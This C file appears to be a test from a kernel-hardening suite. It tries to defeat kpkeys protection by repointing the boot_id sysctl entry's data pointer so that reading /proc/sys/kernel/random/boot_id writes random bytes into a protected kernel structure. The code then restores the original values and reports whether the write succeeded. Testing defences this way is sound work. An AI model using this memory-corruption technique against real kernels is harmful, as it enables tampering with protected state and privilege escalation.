// SPDX-License-Identifier: GPL-2.0-only
/*
 * The random generator stores what was asked for, up to 32 bytes, in the section
 * that has its key, and every raised level may write the gate's own state. Where
 * the boot's id goes when it is first read is said by a table in ordinary memory.
 */
#include <fcntl.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define TABLE		"random_table"		/* of sysctls */
#define TABLE_SIZE	512
#define DATA		"sysctl_bootid"
#define BOOT_ID		"/proc/sys/kernel/random/boot_id"
#define AHEAD		10

static void read_boot_id(void)
{
	char text[64];
	int fd = open(BOOT_ID, O_RDONLY);

	(void)!read(fd, text, sizeof(text));
	close(fd);
}

/*
 * The first six bytes of what waits to be patched, which is nothing. The kernel
 * marks the id by stores outside the section, which are ahead of that page.
 */
enum outcome random_boot_id(void)
{
	uint64_t state = ksymbol("kpkeys_patch_queue"), data = ksymbol(DATA), seen;
	uint64_t slot = find_word(ksymbol(TABLE), TABLE_SIZE, data), old = kread64(state);
	char saved[AHEAD];

	if (!state || !slot || kread(state - AHEAD, saved, AHEAD) || saved[8])
		return broken("no table of sysctls, or no room ahead of the state");
	if (kwrite64(slot, state - AHEAD))
		return lost("the table was not to be changed");
	read_boot_id();
	seen = kread64(state);
	kwrite64(slot, data);
	kwrite(state - AHEAD, saved, AHEAD);
	if (seen == old)
		return lost("the gate's state is as it was");
	return won("the gate's state has random bytes: %#lx, was %#lx", seen, old);
}
